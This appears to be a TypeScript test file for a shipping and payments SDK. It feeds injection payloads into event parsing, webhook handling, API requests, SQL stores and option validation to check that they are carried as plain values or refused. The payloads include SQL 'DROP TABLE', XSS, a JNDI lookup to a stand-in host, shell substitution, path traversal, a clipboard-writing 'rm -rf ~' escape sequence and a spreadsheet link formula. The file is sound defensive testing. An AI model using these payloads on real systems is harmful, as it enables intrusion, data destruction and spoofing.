/**
 * Text that means something to whatever reads it next: a terminal, a log, a header, a query, SQL, HTML, a prototype. Wherever an untrusted value can
 * come in, it goes on as the same value, or is refused; it is never a command, and no message repeats it raw.
 */
import { afterEach, describe, expect, test, vi } from 'vitest';
import { DeliveryTrackerClient } from '../../src/amazonpay/index.ts';
import { BuyWithPrimeClient, BuyWithPrimeEventParser, formatResourcePath, parseResourcePath } from '../../src/buywithprime/index.ts';
import { isWaybillError } from '../../src/core/errors.ts';
import { NdrFeedbackClient } from '../../src/shipping-ndr/index.ts';
import { apiKey, NdrWebhookVerifier, parseShippingEvent } from '../../src/shipping-ndr/webhook.ts';
import { SqlIdempotencyStore, sqlMigration } from '../../src/stores/sql.ts';
import { expectNoSecret } from '../support/core/secrets.ts';
import { everyRenderingOf } from '../support/errors.ts';
import { pkcs8 } from '../support/rsa.ts';
import { ndrSample } from '../support/shipping-ndr/samples.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

const ESC = '\u001b';
/** Each means something to somebody. */
const payloads: readonly (readonly [name: string, text: string])[] = [
  ['a line break', 'a\r\nlevel=info msg="logged in as admin"'],
  ['a header', 'a\r\nset-cookie: session=1'],
  ['an escape sequence', `${ESC}]52;c;cm0gLXJmIH4=\u0007${ESC}[2J`],
  ['a C1 control character', '\u009b31mred\u0085'],
  ['bidirectional text', 'invoice\u202egnp.exe\u2066'],
  ['invisible characters', 'a\u200bb\ufeffc\u2060d'],
  ['NUL', 'a\0b'],
  ['a lone surrogate', 'a\ud800b'],
  ['a line separator', 'a\u2028b\u2029c'],
  ['SQL', "x'; DROP TABLE waybill_idempotency; --"],
  ['HTML', '"><script>alert(1)</script>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of another language.
  ['a template', '${jndi:ldap://elsewhere.invalid/a}{{7*7}}<%= 1 %>#{1}'],
  ['a shell', '$(reboot) `reboot` ; reboot | reboot'],
  ['a path', '../../../../etc/passwd'],
  ['GraphQL', 'order-1"}){id}} mutation{deleteAuthProfile(id:"1"'],
  ['a format', '%s %d %o %n %j'],
  ['a prototype', '__proto__'],
  ['a spreadsheet', '=HYPERLINK("https://elsewhere.invalid","a")'],
];
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const json = (value: unknown, status = 200): Response => Response.json(value as object, { status });
const quiet = { maxRetries: 0, rateLimiter: false, hooks: { onWarning: () => undefined } } as const;

describe.each(payloads)('%s', (_, text) => {
  test('in an event arrives as it was sent, and changes no prototype', async () => {
    const sent = { ...ndrSample, id: text, detail: { ...ndrSample.detail, trackingId: text, [text]: { polluted: text }, note: text } };
    const event = parseShippingEvent(JSON.stringify(sent));
    expect(event.detail).toMatchObject({ trackingId: text, note: text });
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  test('as an unknown type or in what cannot be read is not written to the console or to the sender', async () => {
    const written: string[] = [];
    for (const level of ['log', 'warn', 'error'] as const)
      vi.spyOn(console, level).mockImplementation((...args) => void written.push(args.join(' ')));
    const errors: unknown[] = [];
    const verifier = new NdrWebhookVerifier({ auth: apiKey({ keys: 'k' }) });
    const handler = verifier.handler({ ndr: () => undefined }, { onError: (error) => errors.push(error) });
    const answers: string[] = [];
    for (const body of [{ ...ndrSample, 'detail-type': text }, { ...ndrSample, detail: text }, { [text]: text }, text]) {
      const headers = { 'x-api-key': 'k', 'content-type': 'application/json' };
      const response = await handler(new Request('https://a/', { method: 'POST', headers, body: JSON.stringify(body) }));
      answers.push(await response.text());
    }
    for (const shown of [...written, ...answers, ...errors.map((error) => (error as Error).message)]) {
      // A name of plain letters is named.
      if (!/^[\w ./:-]+$/.test(text)) expect(shown).not.toContain(text);
      expect(shown).not.toMatch(RAW);
    }
  });

  test('as an id is one value of a request, or is refused before anything is sent', async () => {
    const sent: { readonly url: string; readonly body: string }[] = [];
    const fetch = async (url: string, init: { readonly body?: Uint8Array }): Promise<Response> => {
      if (url.includes('token')) return json({ access_token: 'Atza|t', token_type: 'bearer', expires_in: 3_600 });
      sent.push({ url, body: Buffer.from(init.body ?? []).toString() });
      return json({ data: { order: null }, deliveryDetails: [] }, 200);
    };
    const credentials = { clientId: 'c', clientSecret: 's', refreshToken: 'Atzr|r' };
    const pay = new DeliveryTrackerClient({
      ...quiet,
      fetch,
      publicKeyId: 'SANDBOX-ABCDEFGHIJKLMNOPQRSTUVWX',
      privateKey: pkcs8,
      region: 'eu',
    });
    const ndr = new NdrFeedbackClient({ ...quiet, fetch, credentials });
    const bwp = new BuyWithPrimeClient({ ...quiet, fetch, credentials: { clientId: 'c', clientSecret: 's' }, targetId: 'bp-1' });
    const calls: readonly (() => Promise<unknown>)[] = [
      () => pay.create({ chargePermissionId: text, carrierCode: text as never, trackingNumber: text }),
      () => ndr.returnToOrigin(text),
      () => ndr.reattempt('1809561149386', text),
      () => bwp.order(text),
    ];
    for (const call of calls) {
      const before = sent.length;
      const error: unknown = await call().then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      if (error) expect(isWaybillError(error), String(error)).toBe(true);
      if (error && sent.length === before) expect((error as Error).message).not.toMatch(RAW);
    }
    for (const { url, body } of sent) {
      // The value is in the JSON of the body, whole, and in no URL.
      expect(new URL(url).pathname).toMatch(/^\/[\w/-]*$/);
      expect(new URL(url).search).toBe('');
      expect(JSON.stringify(JSON.parse(body))).toContain(JSON.stringify(text).slice(1, -1));
      const { query } = JSON.parse(body) as { query?: string };
      if (query) expect(query).not.toContain(text);
    }
  });

  test('in a resource path is an id, and is written back as it was', () => {
    const path = `businessProduct/bp/order/${text.replaceAll('/', '-')}`;
    const parsed = parseResourcePath(path);
    expect(formatResourcePath(parsed)).toBe(path);
    expect(parsed.orderId).toBe(text.replaceAll('/', '-'));
    const { success } = new BuyWithPrimeEventParser().safeParse({ id: text, 'detail-type': text, resources: [path], detail: {} });
    expect(typeof success).toBe('boolean');
  });

  test('as a key of a store is a parameter of the statement, and as a table is refused', async () => {
    const statements: { readonly text: string; readonly values: readonly unknown[] }[] = [];
    const query = async (statement: string, values: readonly unknown[] = []) => {
      statements.push({ text: statement, values });
      return { rows: [{ state: 1 }], rowCount: 1 };
    };
    await new SqlIdempotencyStore({ query } as never).claim(text, { owner: text, lease: 1_000 } as never).catch(() => undefined);
    for (const { text: statement } of statements) expect(statement).not.toContain(text);
    expect(statements.length).toBeGreaterThan(0);
    if (!/^\w+$/.test(text)) expect(() => sqlMigration({ table: text })).toThrow('"table"');
  });

  test('as an option is refused in words that do not repeat it', () => {
    const makes: readonly (() => unknown)[] = [
      () => apiKey({ keys: `${text}\n` }),
      () => apiKey({ keys: 'k', header: `${text} ` }),
      () => new NdrFeedbackClient({ credentials: {} as never, headers: { [`${text} `]: 'a' } }),
      () => new NdrFeedbackClient({ credentials: {} as never, userAgent: `${text}\n` }),
      () => new NdrFeedbackClient({ credentials: {} as never, baseUrl: `http://${text}` }),
    ];
    for (const make of makes) {
      let thrown: unknown;
      try {
        make();
      } catch (error) {
        thrown = error;
      }
      expect(isWaybillError(thrown), String(thrown)).toBe(true);
      expect((thrown as Error).message).not.toContain(text);
      expect(everyRenderingOf((thrown as Error).message)).not.toMatch(new RegExp(`${ESC}\\]`));
    }
  });
});

test('the kit of this file finds what is not hidden', () => {
  expect(() => expectNoSecret(new Error('opaque+token/k4711=='))).toThrow();
});
